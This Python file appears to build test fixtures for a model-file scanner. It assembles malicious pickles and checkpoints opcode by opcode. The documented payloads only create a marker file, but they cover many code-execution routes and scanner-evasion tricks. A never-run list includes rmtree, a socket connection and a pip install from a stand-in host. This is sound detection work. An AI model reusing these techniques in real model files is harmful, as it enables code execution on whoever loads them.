"""Hostile model files, built in code, for the `assay scan` tests and the scanner benchmark.

`build_hostile(root, marker)` writes one file (or one folder) per technique and returns a
`Sample` for each: its family, a technique id, the rule IDs at least one of which must fire,
and the real loader that would run its payload (None when no loader runs it: structural
hazards, payloads we deliberately never run, or tricks a given loader does not fall for).
Every executable payload does one harmless, observable thing: it creates `marker`.
`tests/scan/test_corpus_honest.py` proves it by running each real loader in a child process.

Pickles are assembled opcode by opcode from small expression trees (`G`, `Call`, `KwCall`,
`Ops`, `Persid`) with `emit`/`dumps`; nothing here unpickles or imports a payload. Zips,
GGUF, safetensors, npy and Keras files are written byte by byte (or with zipfile/h5py/onnx
for the ordinary parts), so the corpus builds in a few seconds without torch or keras.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import shlex
import shutil
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

FAMILIES = ("pickle", "archive", "keras", "onnx", "gguf", "safetensors", "format", "template")
LOADERS = ("pickle", "torch", "torch-legacy", "joblib", "numpy", "keras", "keras-h5")


@dataclass(frozen=True)
class Sample:
    path: Path              # file written (or folder, for folder-level samples)
    family: str             # one of FAMILIES
    technique: str          # short id, unique in the corpus
    rules: tuple[str, ...]  # rule IDs, at least one of which must fire
    loader: str | None      # the real loader that runs the payload (LOADERS), or None
    note: str               # advisory, CVE or why the loader is None
    marker: Path | None = None   # the file the payload creates when `loader` runs it


# ================================================================ pickle assembler

@dataclass(frozen=True)
class G:
    """A global: STACK_GLOBAL with string operands when `stack` (default: protocol >= 4, as a
    pickler writes it), else the GLOBAL opcode."""
    module: str
    name: str
    stack: bool | None = None

    def __call__(self, *args: Any) -> Call:
        return Call(self, args)


@dataclass(frozen=True)
class Call:
    """fn(*args) by REDUCE. Calling a Call (or a G) builds the next call in a chain."""
    fn: Any
    args: tuple = ()

    def __call__(self, *args: Any) -> Call:
        return Call(self, args)


@dataclass(frozen=True, eq=False)
class KwCall:
    """fn(*args, **kwargs): functools.partial(fn), keywords set by BUILD (partial.__setstate__),
    then called with no arguments."""
    fn: Any
    args: tuple
    kwargs: dict


@dataclass(frozen=True)
class Ops:
    """Opcodes written verbatim; they must push exactly one item."""
    data: bytes


@dataclass(frozen=True)
class Persid:
    """A persistent id (BINPERSID), as PyTorch checkpoints use for tensor storages."""
    pid: Any


def _u32(n: int) -> bytes:
    return struct.pack("<I", n)


def _u64(n: int) -> bytes:
    return struct.pack("<Q", n)


def text(s: str, proto: int) -> bytes:
    """A str push in the opcode a pickler of that protocol would use."""
    if proto == 0:
        esc = (s.replace("\\", "\\u005c").replace("\0", "\\u0000").replace("\n", "\\u000a")
               .replace("\r", "\\u000d").replace("\x1a", "\\u001a"))
        return b"V" + esc.encode("raw-unicode-escape") + b"\n"
    b = s.encode()
    if proto >= 4 and len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + _u32(len(b)) + b


def _int(v: int, proto: int) -> bytes:
    if proto == 0:
        return b"I" + str(v).encode() + b"\n"
    if 0 <= v < 256:
        return b"K" + bytes([v])
    if 0 <= v < 65536:
        return b"M" + struct.pack("<H", v)
    if -(2 ** 31) <= v < 2 ** 31:
        return b"J" + struct.pack("<i", v)
    raw = v.to_bytes((v.bit_length() + 8) // 8, "little", signed=True)
    return b"\x8a" + bytes([len(raw)]) + raw


def _bytes(b: bytes) -> bytes:
    return b"C" + bytes([len(b)]) + b if len(b) < 256 else b"B" + _u32(len(b)) + b


def _seq(items: Iterable[Any], proto: int) -> bytes:
    return b"".join(emit(x, proto) for x in items)


def _tuple(v: tuple, proto: int) -> bytes:
    if proto >= 2 and len(v) <= 3:
        return _seq(v, proto) + (b")", b"\x85", b"\x86", b"\x87")[len(v)]
    return b"(" + _seq(v, proto) + b"t"


def _list(v: list, proto: int) -> bytes:
    if proto == 0:
        return b"(" + _seq(v, proto) + b"l"
    return b"]" + (b"(" + _seq(v, proto) + b"e" if v else b"")


def _dict(v: dict, proto: int) -> bytes:
    pairs = _seq((x for kv in v.items() for x in kv), proto)
    if proto == 0:
        return b"(" + pairs + b"d"
    return b"}" + (b"(" + pairs + b"u" if v else b"")


def _global(g: G, proto: int) -> bytes:
    if g.stack or (g.stack is None and proto >= 4):
        return text(g.module, max(proto, 4)) + text(g.name, max(proto, 4)) + b"\x93"
    return b"c" + g.module.encode() + b"\n" + g.name.encode() + b"\n"


def emit(v: Any, proto: int = 2) -> bytes:
    """Opcodes that push `v` (an expression tree or a plain Python value)."""
    if isinstance(v, G):
        return _global(v, proto)
    if isinstance(v, Call):
        return emit(v.fn, proto) + _tuple(tuple(v.args), proto) + b"R"
    if isinstance(v, KwCall):
        state = (v.fn, tuple(v.args), dict(v.kwargs), None)
        return emit(Call(G("functools", "partial"), (v.fn,)), proto) + emit(state, proto) + b"b)R"
    if isinstance(v, Ops):
        return v.data
    if isinstance(v, Persid):
        return emit(v.pid, proto) + b"Q"
    if v is None:
        return b"N"
    if isinstance(v, bool):
        return (b"\x88" if v else b"\x89") if proto >= 2 else (b"I01\n" if v else b"I00\n")
    if isinstance(v, int):
        return _int(v, proto)
    if isinstance(v, float):
        return b"F" + repr(v).encode() + b"\n" if proto == 0 else b"G" + struct.pack(">d", v)
    if isinstance(v, str):
        return text(v, proto)
    if isinstance(v, bytes):
        return _bytes(v)
    if isinstance(v, tuple):
        return _tuple(v, proto)
    if isinstance(v, list):
        return _list(v, proto)
    if isinstance(v, dict):
        return _dict(v, proto)
    raise TypeError(f"cannot emit {type(v).__name__}")


def head(proto: int) -> bytes:
    return b"\x80" + bytes([proto]) if proto >= 2 else b""


def pk(proto: int, *parts: Any, frame: bool = False) -> bytes:
    """A whole pickle: PROTO, the parts (bytes verbatim, anything else emitted), STOP."""
    body = b"".join(p if isinstance(p, bytes) else emit(p, proto) for p in parts) + b"."
    if frame:
        body = b"\x95" + _u64(len(body)) + body
    return head(proto) + body


def dumps(v: Any, proto: int = 2, *, frame: bool = False) -> bytes:
    return pk(proto, v, frame=frame)


def inject(pickle_bytes: bytes, payload: Any) -> bytes:
    """`payload` run (and its result popped) right after the PROTO opcode of a real pickle."""
    cut = 2 if pickle_bytes[:1] == b"\x80" else 0
    proto = pickle_bytes[1] if cut else 0
    return pickle_bytes[:cut] + emit(payload, min(proto, 3)) + b"0" + pickle_bytes[cut:]


# ================================================================ payloads (what gets run)

TOUCH = shutil.which("touch") or "/usr/bin/touch"


def sh(m: str) -> str:
    """A shell command creating the marker."""
    return "touch " + shlex.quote(m)


def py(m: str) -> str:
    """Python source creating the marker."""
    return f"open({m!r}, 'w').close()"


def os_system(m: str) -> Call:
    return G("os", "system")(sh(m))


def code_bytes(m: str) -> bytes:
    return marshal.dumps(compile(py(m), "<payload>", "exec"))


# ================================================================ containers written by hand

@dataclass
class ZipEntry:
    """One member of a hand-written zip; the overrides make the header oddities."""
    name: str
    raw: bytes
    method: int = 0                  # 0 stored, 8 deflated
    flags: int = 0
    crc: int | None = None           # None: the true CRC-32
    usize: int | None = None         # None: the true size
    central_name: str | None = None  # None: same as the local name
    central_method: int | None = None
    same_data_as: int | None = None  # central entry points at another entry's local header
    packed: bytes | None = None      # already compressed data (for bombs)


def _deflate(raw: bytes) -> bytes:
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    return co.compress(raw) + co.flush()


def zip_bytes(entries: list[ZipEntry], prefix: bytes = b"", trailing: bytes = b"",
              comment: bytes = b"") -> bytes:
    """A zip, local headers then central directory; offsets count `prefix` (like an SFX)."""
    out = bytearray(prefix)
    offsets: list[int] = []
    central = bytearray()
    for i, e in enumerate(entries):
        data = e.packed if e.packed is not None else (_deflate(e.raw) if e.method == 8 else e.raw)
        crc = zlib.crc32(e.raw) if e.crc is None else e.crc
        usize = len(e.raw) if e.usize is None else e.usize
        name = e.name.encode()
        fixed = struct.pack("<HHHHHIII", 20, e.flags, e.method, 0, 0x21, crc, len(data), usize)
        offsets.append(len(out))
        if e.same_data_as is None:
            out += b"PK\x03\x04" + fixed + struct.pack("<HH", len(name), 0) + name + data
        cname = (e.central_name if e.central_name is not None else e.name).encode()
        method = e.method if e.central_method is None else e.central_method
        where = offsets[e.same_data_as] if e.same_data_as is not None else offsets[i]
        central += (b"PK\x01\x02" + struct.pack("<HHHHHHIII", 20, 20, e.flags, method, 0, 0x21, crc,
                                                len(data), usize)
                    + struct.pack("<HHHHHII", len(cname), 0, 0, 0, 0, 0, where) + cname)
    cd_at = len(out)
    out += central
    out += b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(central),
                                       cd_at, len(comment)) + comment
    return bytes(out + trailing)


def zip_of(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def torch_zip(data_pkl: bytes, prefix: str = "archive", extra: dict[str, bytes] | None = None,
              method: int = zipfile.ZIP_STORED) -> bytes:
    """A PyTorch zip checkpoint (the layout torch.save writes) around `data_pkl`."""
    members = {f"{prefix}/data.pkl": data_pkl, f"{prefix}/byteorder": b"little"}
    members.update(extra or {})
    members[f"{prefix}/version"] = b"3\n"
    return zip_of(members, method)


def tensor_expr(key: str, shape: tuple[int, ...]) -> Call:
    """torch._utils._rebuild_tensor_v2 over a float32 storage, as torch.save writes it."""
    numel = 1
    for d in shape:
        numel *= d
    stride = tuple(_stride(shape, i) for i in range(len(shape)))
    storage = Persid(("storage", G("torch", "FloatStorage"), key, "cpu", numel))
    return Call(G("torch._utils", "_rebuild_tensor_v2"),
                (storage, 0, shape, stride, False, Call(G("collections", "OrderedDict"))))


def _stride(shape: tuple[int, ...], i: int) -> int:
    s = 1
    for d in shape[i + 1:]:
        s *= d
    return s


def state_dict(prefix: str = "archive") -> tuple[dict[str, Any], dict[str, bytes]]:
    """A small Linear layer's state dict: (pickle expression, storage members)."""
    sd = {"weight": tensor_expr("0", (2, 3)), "bias": tensor_expr("1", (2,))}
    storages = {f"{prefix}/data/0": struct.pack("<6f", *range(6)),
                f"{prefix}/data/1": struct.pack("<2f", 0.5, -0.5)}
    return sd, storages


MAGIC = 0x1950A86A20F9469CFC6C
SYS_INFO = {"protocol_version": 1001, "little_endian": True,
            "type_sizes": {"short": 2, "int": 4, "long": 4}}


def legacy_torch(hostile_at: int, payload: bytes) -> bytes:
    """A legacy (non-zip) torch.save file: five pickles in a row; pickle `hostile_at` hostile."""
    parts = [dumps(MAGIC), dumps(1001), dumps(SYS_INFO), dumps({}), dumps([])]
    parts[hostile_at] = payload
    return b"".join(parts)


def npy_header(descr: str, shape: tuple[int, ...], version: int = 1, fortran: bool = False) -> bytes:
    d = f"{{'descr': '{descr}', 'fortran_order': {fortran}, 'shape': {shape!r}, }}"
    lenfmt, prelen = ("<H", 10) if version == 1 else ("<I", 12)
    pad = -(prelen + len(d) + 1) % 64
    body = (d + " " * pad + "\n").encode("latin1" if version < 3 else "utf8")
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack(lenfmt, len(body)) + body


def tar_of(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# ================================================================ the corpus

Maker = Callable[[str], bytes]


class Corpus:
    """Writes samples under root/<family>/<technique>/ and records them."""

    def __init__(self, root: Path, marker: Path, per_sample: bool) -> None:
        self.root, self.marker, self.per_sample = root, marker, per_sample
        self.samples: list[Sample] = []
        self.seen: set[str] = set()

    def marker_for(self, technique: str) -> Path:
        return self.marker.parent / f"{self.marker.name}.{technique}" if self.per_sample else self.marker

    def folder(self, family: str, technique: str) -> Path:
        if technique in self.seen:
            raise ValueError(f"duplicate technique {technique}")
        self.seen.add(technique)
        d = self.root / family / technique
        d.mkdir(parents=True, exist_ok=True)
        return d

    def record(self, path: Path, family: str, technique: str, rules: tuple[str, ...],
               loader: str | None, note: str) -> None:
        assert family in FAMILIES and (loader is None or loader in LOADERS), (family, loader)
        m = self.marker_for(technique) if loader else None
        self.samples.append(Sample(path, family, technique, tuple(rules), loader, note, m))

    def add(self, family: str, technique: str, filename: str, make: Maker, rules: tuple[str, ...],
            loader: str | None = None, note: str = "") -> None:
        """One file; `make(marker)` gives its bytes."""
        path = self.folder(family, technique) / filename
        path.write_bytes(make(str(self.marker_for(technique))))
        self.record(path, family, technique, rules, loader, note)

    def add_dir(self, family: str, technique: str, fill: Callable[[Path, str], Path | None],
                rules: tuple[str, ...], loader: str | None = None, note: str = "") -> None:
        """A folder sample; `fill(folder, marker)` writes it and may return the file that is the
        sample (otherwise the folder is)."""
        d = self.folder(family, technique)
        target = fill(d, str(self.marker_for(technique))) or d
        self.record(target, family, technique, rules, loader, note)


# ================================================================ family: pickle (plain pickles)

R1 = ("PICKLE001",)
R1U = ("PICKLE001", "PICKLE002")                   # dangerous, or at least an unknown import
RDYN = ("PICKLE001", "PICKLE004", "PICKLE005")     # reached through getattr / import machinery
RTRAV = ("PICKLE003", "PICKLE001")
RNEST = ("PICKLE006", "PICKLE001")
RMORE = ("PICKLE001", "PICKLE008", "FORMAT002")    # a pickle after the first one


def getattr_(obj: Any, name: str) -> Call:
    return G("builtins", "getattr")(obj, name)


def methodcaller(name: str, *args: Any, module: str = "operator") -> Call:
    return G(module, "methodcaller")(name, *args)


def bytesio(data: bytes) -> Call:
    return G("io", "BytesIO")(data)


# (technique, payload expression, rules, note): each becomes one pickle run by pickle.load.
CALLS: list[tuple[str, Callable[[str], Any], tuple[str, ...], str]] = [
    ("os-system", os_system, R1, "CWE-502: the classic __reduce__ payload"),
    ("posix-system", lambda m: G("posix", "system")(sh(m)), R1,
     "os.system's defining module; deny lists keyed on 'os' miss it"),
    ("subprocess-call", lambda m: G("subprocess", "call")(["touch", m]), R1, ""),
    ("subprocess-check-call", lambda m: G("subprocess", "check_call")(["touch", m]), R1, ""),
    ("subprocess-check-output", lambda m: G("subprocess", "check_output")(["touch", m]), R1, ""),
    ("subprocess-run", lambda m: G("subprocess", "run")(["touch", m]), R1, ""),
    ("subprocess-popen", lambda m: G("subprocess", "Popen")(["touch", m]), R1, "a class called by REDUCE"),
    ("subprocess-getoutput", lambda m: G("subprocess", "getoutput")(sh(m)), R1, ""),
    ("subprocess-getstatusoutput", lambda m: G("subprocess", "getstatusoutput")(sh(m)), R1, ""),
    ("os-popen", lambda m: G("os", "popen")(sh(m)), R1, ""),
    ("os-spawnvp", lambda m: G("os", "spawnvp")(os.P_WAIT, "touch", ["touch", m]), R1, ""),
    ("os-posix-spawn", lambda m: G("os", "posix_spawn")(TOUCH, ["touch", m], {}), R1, ""),
    ("builtins-exec", lambda m: G("builtins", "exec")(py(m)), R1, ""),
    ("builtins-eval", lambda m: G("builtins", "eval")(py(m)), R1, ""),
    ("builtins-compile-exec", lambda m: G("builtins", "exec")(G("builtins", "compile")(py(m), "<p>", "exec")),
     R1, ""),
    ("builtins-open", lambda m: G("builtins", "open")(m, "w"), R1, "open for writing creates the file"),
    ("io-open", lambda m: G("io", "open")(m, "w"), R1U, "builtins.open under another name"),
    ("io-fileio", lambda m: G("_io", "FileIO")(m, "w"), R1U, ""),
    ("codecs-open", lambda m: G("codecs", "open")(m, "w"), R1U, ""),
    ("os-open", lambda m: G("os", "open")(m, os.O_WRONLY | os.O_CREAT), R1, ""),
    ("os-mkdir", lambda m: G("os", "mkdir")(m), R1U, "the marker appears as a folder"),
    ("os-makedirs", lambda m: G("os", "makedirs")(m), R1U, "the marker appears as a folder"),
    ("runpy-run-code", lambda m: G("runpy", "_run_code")(py(m), {}), R1, ""),
    ("cprofile-run", lambda m: G("cProfile", "run")(py(m)), R1U, "exec under a profiler"),
    ("profile-run", lambda m: G("profile", "run")(py(m)), R1U, "exec under a profiler"),
    ("doctest-run-docstring", lambda m: G("doctest", "run_docstring_examples")(f">>> {py(m)}\n", {}), R1U,
     "runs a string's doctest examples"),
    ("numpy-runstring", lambda m: G("numpy.testing._private.utils", "runstring")(py(m), {}), R1U,
     "a numpy test helper that is exec()"),
    ("timeit-kwargs", lambda m: KwCall(G("timeit", "timeit"), (), {"stmt": py(m), "number": 1}), R1U,
     "keyword arguments through functools.partial.__setstate__ (BUILD)"),
    ("operator-call", lambda m: G("operator", "call")(G("os", "system"), sh(m)), R1, ""),
    ("map-list", lambda m: G("builtins", "list")(G("builtins", "map")(G("os", "system"), [sh(m)])), R1,
     "a lazy map forced by list()"),
    ("starmap-list", lambda m: G("builtins", "list")(G("itertools", "starmap")(G("subprocess", "call"),
                                                                              [(["touch", m],)])), R1, ""),
    ("functools-partial", lambda m: G("functools", "partial")(G("os", "system"), sh(m))(), R1, ""),
    ("logging-filehandler", lambda m: G("logging", "FileHandler")(m), ("PICKLE002", "PICKLE001"),
     "an innocent-looking class whose constructor opens a file for writing"),
    ("zipfile-zipfile", lambda m: G("zipfile", "ZipFile")(m, "w"), ("PICKLE002", "PICKLE001"), ""),
    ("gzip-open", lambda m: G("gzip", "open")(m, "wb"), ("PICKLE002", "PICKLE001"), ""),
    ("ctypes-libc-system", lambda m: getattr_(G("ctypes", "CDLL")(None), "system")(sh(m).encode()),
     ("PICKLE001", "PICKLE004"), "libc system()"),
    ("exec-marshal-code", lambda m: G("builtins", "exec")(G("marshal", "loads")(code_bytes(m))), R1,
     "marshalled bytecode"),
    ("functiontype-marshal", lambda m: G("types", "FunctionType")(G("marshal", "loads")(code_bytes(m)), {})(),
     R1U, "a function built from marshalled bytecode, then called"),
    # dynamic attribute access and import machinery
    ("getattr-dunder-import", lambda m: getattr_(G("builtins", "__import__")("os"), "system")(sh(m)), RDYN,
     "builtins.getattr(builtins.__import__('os'), 'system')"),
    ("getattr-importlib", lambda m: getattr_(G("importlib", "import_module")("subprocess"), "call")(
        ["touch", m]),
     RDYN, ""),
    ("importlib-dunder-import", lambda m: getattr_(G("importlib", "__import__")("os"), "system")(sh(m)),
     RDYN, ""),
    ("getattr-module-as-global", lambda m: getattr_(G("shutil", "os"), "system")(sh(m)), (*RDYN, "PICKLE002"),
     "find_class('shutil', 'os') is the os module itself: no dotted name needed"),
    ("attrgetter-module", lambda m: G("operator", "attrgetter")("system")(G("pathlib", "os"))(sh(m)), RDYN,
     "operator.attrgetter('system')(pathlib.os)"),
    ("attrgetter-dotted", lambda m: G("operator", "attrgetter")("os.system")(
        G("importlib", "import_module")("pathlib"))(sh(m)), RDYN,
     "attrgetter('os.system')(importlib.import_module('pathlib'))"),
    ("methodcaller-system", lambda m: methodcaller("system", sh(m))(G("tempfile", "_os")), RDYN,
     "operator.methodcaller('system', cmd)(tempfile._os)"),
    ("methodcaller-private-operator", lambda m: methodcaller("system", sh(m), module="_operator")(
        G("shutil", "os")), RDYN, "_operator, not operator"),
    ("methodcaller-path-touch", lambda m: methodcaller("touch")(G("pathlib", "Path")(m)),
     ("PICKLE004", "PICKLE001"),
     "pathlib.Path(marker).touch() through operator.methodcaller"),
    ("methodcaller-write-text", lambda m: methodcaller("write_text", "x")(G("pathlib", "PosixPath")(m)),
     ("PICKLE004", "PICKLE001"), ""),
    ("pydoc-locate", lambda m: G("pydoc", "locate")("os.system")(sh(m)), (*RDYN, "PICKLE002"),
     "pydoc.locate imports any dotted name"),
    ("pkgutil-resolve-name", lambda m: G("pkgutil", "resolve_name")("os:system")(sh(m)), (*RDYN, "PICKLE002"),
     "pkgutil.resolve_name imports any name"),
    ("sys-modules-getitem", lambda m: getattr_(G("operator", "getitem")(G("sys", "modules"), "os"), "system")(
        sh(m)),
     ("PICKLE005", "PICKLE001", "PICKLE004"), "sys.modules['os'] through operator.getitem"),
]

# Payloads never run (loader None): destructive, interactive, networked or not for this OS.
NOT_RUN: list[tuple[str, Callable[[str], Any], tuple[str, ...], str]] = [
    ("nt-system", lambda m: G("nt", "system")(sh(m)), R1, "Windows os.system: not run on Linux"),
    ("webbrowser-open", lambda m: G("webbrowser", "open")("https://example.invalid/x"), R1,
     "opens a browser: never run"),
    ("shutil-rmtree", lambda m: G("shutil", "rmtree")(m + ".absent"), R1, "destructive: never run"),
    ("pty-spawn", lambda m: G("pty", "spawn")(["touch", m]), R1, "interactive: never run"),
    ("socket-connect", lambda m: G("socket", "create_connection")(("127.0.0.1", 9)), R1,
     "network: never run"),
    ("os-execv", lambda m: G("os", "execv")(TOUCH, ["touch", m]), R1,
     "replaces the loading process: never run"),
    ("pip-main", lambda m: G("pip", "main")(["install", "--index-url", "https://example.invalid", "x"]), R1U,
     "CVE-2025-1716 (picklescan did not know pip); network: never run"),
]


def _proto_variants() -> list[tuple[str, Maker, str]]:
    """The classic os.system payload in every protocol's own opcodes."""
    def p0_s(m: str) -> bytes:
        return b"cos\nsystem\n(S" + repr(sh(m)).encode() + b"\ntR."

    def p0_escaped(m: str) -> bytes:
        esc = "".join(f"\\u{ord(ch):04x}" for ch in "touch")
        return b"cos\nsystem\n(V" + esc.encode() + b" " + shlex.quote(m).encode() + b"\ntR."

    def p0_hex(m: str) -> bytes:
        esc = "".join(f"\\x{ord(ch):02x}" for ch in "touch")
        return b"cos\nsystem\n(S'" + esc.encode() + b" " + shlex.quote(m).encode() + b"'\ntR."

    def p1_binstring(m: str) -> bytes:
        c = sh(m).encode()
        return b"cos\nsystem\n(U" + bytes([len(c)]) + c + b"tR."

    def p1_long_binstring(m: str) -> bytes:
        c = sh(m).encode()
        return b"cos\nsystem\n(T" + _u32(len(c)) + c + b"tR."

    def p3_bytes(m: str) -> bytes:
        return pk(3, G("os", "system"), _bytes(sh(m).encode()), b"\x85R")

    def p4_memo_frame(m: str) -> bytes:
        body = (text("os", 4) + b"\x94" + text("system", 4) + b"\x94\x93\x94" + text(sh(m), 4)
                + b"\x94\x85\x94R\x94.")
        return b"\x80\x04\x95" + _u64(len(body)) + body

    def p5_frame(m: str) -> bytes:
        return pk(5, os_system(m), frame=True)

    def unicode8(m: str) -> bytes:
        c = sh(m).encode()
        return pk(4, G("os", "system"), b"\x8d" + _u64(len(c)) + c, b"\x85R")

    return [("proto0-string", p0_s, "protocol 0, S opcode (repr-quoted string)"),
            ("proto0-unicode", lambda m: dumps(os_system(m), 0), "protocol 0, V opcode"),
            ("proto0-unicode-escapes", p0_escaped, "the command spelled with \\u escapes"),
            ("proto0-string-hex-escapes", p0_hex, "the command spelled with \\x escapes"),
            ("proto1-short-binstring", p1_binstring, "protocol 1 SHORT_BINSTRING"),
            ("proto1-binstring", p1_long_binstring, "protocol 1 BINSTRING"),
            ("proto2-binunicode", lambda m: dumps(os_system(m), 2), ""),
            ("proto3-binbytes", p3_bytes, "the command as bytes"),
            ("proto4-stack-global-memo-frame", p4_memo_frame, "what pickle.dumps writes for protocol 4"),
            ("proto5-frame", p5_frame, ""),
            ("proto4-binunicode8", unicode8, "BINUNICODE8 command string")]


def _structure_variants() -> list[tuple[str, Maker, tuple[str, ...], str]]:
    """Opcode-level tricks around a call: INST, OBJ, NEWOBJ(_EX), BUILD, the memo, the stack."""
    def path(m: str) -> Call:
        return Call(G("pathlib", "Path"), (m,))

    return [
        ("inst-os-system", lambda m: pk(0, b"(", sh(m), b"ios\nsystem\n"), R1, "INST calls any callable"),
        ("inst-subprocess-call", lambda m: pk(0, b"(", ["touch", m], b"isubprocess\ncall\n"), R1, ""),
        ("inst-builtins-exec-proto2", lambda m: pk(2, b"(", py(m), b"ibuiltins\nexec\n"), R1, ""),
        ("obj-builtins-exec", lambda m: pk(2, b"(", G("builtins", "exec"), py(m), b"o"), R1, ""),
        ("obj-subprocess-popen", lambda m: pk(2, b"(", G("subprocess", "Popen"), ["touch", m], b"o"), R1, ""),
        ("obj-os-system-proto1", lambda m: pk(1, b"(", G("os", "system"), sh(m), b"o"), R1, ""),
        ("newobj-partial", lambda m: pk(2, G("functools", "partial"), (G("os", "system"), sh(m)), b"\x81)R"),
         R1, "partial.__new__ binds the call; REDUCE runs it"),
        ("newobj-ex-partial-kwargs", lambda m: pk(4, G("functools", "partial"), (G("subprocess", "call"),),
                                                  {"args": ["touch", m]}, b"\x92)R"), R1,
         "NEWOBJ_EX keywords"),
        ("newobj-methodcaller", lambda m: pk(2, G("operator", "methodcaller"), ("touch",), b"\x81",
                                             (path(m),), b"R"), ("PICKLE004", "PICKLE001"), ""),
        ("newobj-ex-methodcaller-kwargs", lambda m: pk(4, G("operator", "methodcaller"), ("write_text",),
                                                       {"data": "x"}, b"\x92", (path(m),), b"R"),
         ("PICKLE004", "PICKLE001"), ""),
        ("build-setstate-instance-attr", lambda m: pk(2, Call(G("argparse", "Namespace")),
                                                      {"__setstate__": G("os", "system")}, b"b", sh(m), b"b"),
         R1, "BUILD puts os.system in the instance dict as __setstate__; a second BUILD calls it"),
        ("build-setstate-slotstate", lambda m: pk(2, Call(G("types", "SimpleNamespace")),
                                                  (None, {"__setstate__": G("subprocess", "call")}), b"b",
                                                  ["touch", m], b"b"), R1, "the same through slot state"),
        ("build-module-dict", lambda m: pk(2, G("typing", "collections"),
                                           {"SafeOrderedDict": G("os", "system")},
                                           b"b0", Call(G("collections", "SafeOrderedDict"), (sh(m),))),
         R1U, "BUILD on a module object adds os.system under an innocent name, then imports it"),
        ("setattr-monkeypatch", lambda m: pk(2, Call(G("builtins", "setattr"), (G("typing", "collections"),
                                                                               "SafeChainMap",
                                                                               G("posix", "system"))),
                                             b"0", Call(G("collections", "SafeChainMap"), (sh(m),))),
         (*R1U, "PICKLE004"), "builtins.setattr monkeypatch, then an innocent-looking import"),
        ("sys-modules-alias", lambda m: pk(2, G("sys", "modules"), "safetensors_compat", G("shutil", "os"),
                                           b"s0", Call(G("safetensors_compat", "system"), (sh(m),))),
         ("PICKLE005", "PICKLE001"), "SETITEM into sys.modules, then GLOBAL through the alias"),
        ("stack-global-memo", lambda m: pk(4, text("os", 4), b"\x940", text("system", 4), b"\x940",
                                           b"h\x00h\x01\x93", sh(m), b"\x85R"), R1,
         "STACK_GLOBAL operands fetched from the memo (picklescan-style byte scans miss it)"),
        ("stack-global-long-memo", lambda m: pk(4, text("subprocess", 4), b"r" + _u32(70000) + b"0",
                                                text("call", 4), b"r" + _u32(70001) + b"0",
                                                b"j" + _u32(70000) + b"j" + _u32(70001) + b"\x93",
                                                (["touch", m],), b"R"), R1, "LONG_BINPUT/LONG_BINGET"),
        ("memo-overwrite", lambda m: pk(2, "harmless", b"q\x000", G("os", "system"), b"q\x000h\x00", sh(m),
                                        b"\x85R"), R1, "a memo slot rewritten with the callable"),
        ("memo-text-proto0", lambda m: pk(0, b"cos\nsystem\np0\n0g0\n(", sh(m), b"tR"), R1, "PUT/GET"),
        ("dup-pop", lambda m: pk(2, G("os", "system"), b"20", sh(m), b"\x85R"), R1, ""),
        ("payload-then-pop", lambda m: pk(2, os_system(m), b"0", {"weight": [0.0, 1.0]}), R1,
         "the payload's result is dropped; an ordinary dict is returned"),
        ("pop-mark", lambda m: pk(2, b"(", os_system(m), b"1N"), R1, "POP_MARK drops the payload's result"),
        ("payload-in-dict-value", lambda m: pk(2, {"state_dict": {"w": [1.0]}, "epoch": 3,
                                                   "_hook": os_system(m)}), R1, ""),
        ("payload-in-list", lambda m: pk(2, [1, 2, os_system(m)]), R1, ""),
        ("payload-as-dict-key", lambda m: pk(2, {os_system(m): "x"}), R1, ""),
        ("payload-deep-nesting", lambda m: pk(2, b"]" * 40 + emit(os_system(m)) + b"a" * 40), R1,
         "40 nested lists"),
        ("stack-global-computed-operands", lambda m: pk(4, Call(G("operator", "add"), ("o", "s")),
                                                        Call(G("operator", "add"), ("sys", "tem")), b"\x93",
                                                        sh(m), b"\x85R"),
         ("PICKLE001", "PICKLE002", "PICKLE004"), "STACK_GLOBAL operands are results of calls"),
        ("stack-global-rot13", lambda m: pk(4, Call(G("codecs", "decode"), ("bf", "rot13")),
                                            Call(G("codecs", "decode"), ("flfgrz", "rot13")), b"\x93",
                                            sh(m), b"\x85R"),
         ("PICKLE001", "PICKLE002", "PICKLE004"), "operands decoded from rot13 at load time"),
    ]


def _traversal_variants() -> list[tuple[str, Maker, str | None, str]]:
    """Dotted and dunder names resolved by find_class (split on dots from protocol 4)."""
    def call_global(mod: str, name: str, proto: int = 4, stack: bool | None = None) -> Maker:
        return lambda m: pk(proto, G(mod, name, stack), sh(m), b"\x85R")

    def builtins_get(m: str) -> bytes:
        return pk(4, Call(Call(G("numpy", "__builtins__.get"), ("exec",)), (py(m),)))

    def main_builtins(m: str) -> bytes:
        return pk(4, Call(G("__main__", "__builtins__.exec"), (py(m),)))

    def numpy_builtins_eval(m: str) -> bytes:
        return pk(4, Call(G("numpy", "__builtins__.eval"), (py(m),)))

    return [
        ("dotted-pathlib-os-system", call_global("pathlib", "os.system"), "pickle",
         "STACK_GLOBAL pathlib / os.system"),
        ("dotted-global-opcode-proto4", call_global("pathlib", "os.system", stack=False), "pickle",
         "GLOBAL (not STACK_GLOBAL) with a dotted name under a protocol 4 header"),
        ("dotted-tempfile-os", call_global("tempfile", "_os.system"), "pickle", ""),
        ("dotted-logging-os", call_global("logging", "os.system"), "pickle", ""),
        ("dotted-dunder-self", call_global("tempfile", "_os.getpid.__self__.system"), "pickle",
         "a builtin function's __self__ is its module (posix)"),
        ("dunder-numpy-builtins-get", builtins_get, "pickle",
         "numpy.__builtins__ is a dict; its .get('exec') gives exec"),
        ("dunder-main-builtins", main_builtins, "pickle",
         "__main__.__builtins__ is the builtins module in a script"),
        ("dunder-numpy-builtins-eval", numpy_builtins_eval, None,
         "numpy.__builtins__ is a dict in CPython, so getattr(dict, 'eval') fails: not run"),
